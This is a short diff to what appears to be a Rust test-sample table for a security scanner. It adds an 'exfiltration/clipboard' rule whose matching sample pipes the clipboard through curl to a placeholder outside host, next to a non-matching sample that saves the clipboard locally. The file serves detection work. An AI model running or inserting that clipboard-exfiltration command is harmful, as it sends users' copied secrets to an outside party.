@@ -480,4 +480,12 @@ pub(super) const SAMPLES: &[RuleSamples] = &[
             "fetch('https://hooks.slack.com/services/x', {method: 'POST', body: JSON.stringify({text: 'done'})});",
         )],
     },
+    RuleSamples {
+        rule: "exfiltration/clipboard",
+        hits: &[(
+            "run.sh",
+            "pbpaste | curl -s -d @- https://clip.notes-eu.invalid/in\n",
+        )],
+        misses: &[("run.sh", "pbpaste > clip.txt\n")],
+    },
 ];
